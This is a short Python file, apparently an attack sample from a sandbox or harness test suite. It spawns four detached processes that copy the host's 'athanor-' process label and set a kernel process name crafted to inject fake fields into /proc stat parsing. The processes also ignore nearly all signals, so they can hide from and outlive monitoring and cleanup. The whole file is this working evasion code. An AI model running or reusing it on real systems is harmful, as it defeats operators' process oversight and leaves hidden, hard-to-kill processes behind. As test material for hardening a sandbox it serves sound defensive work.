"""Calls its processes as the boxes of others are called, and as the kernel's own columns."""

import ctypes
import os
import re
import signal
import time

from attacking import at_first

PR_SET_NAME = 15


def attack():
    with open("/proc/1/cmdline", "rb") as first:
        known = re.findall(rb"athanor-[0-9a-f]{12}-", first.read())
    label = (known or [b"athanor-000000000000-"])[0].decode()
    for number in range(4):
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(PR_SET_NAME, b") R 1 1 1 0 -1", 0, 0, 0)
            for one in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
                signal.signal(one, signal.SIG_IGN)
            os.execv("/usr/bin/python3", [f"{label}{number:012x}", "-c", "import time; time.sleep(600)"])
    time.sleep(0.3)
    return {"named": 4}


choose = at_first(attack)
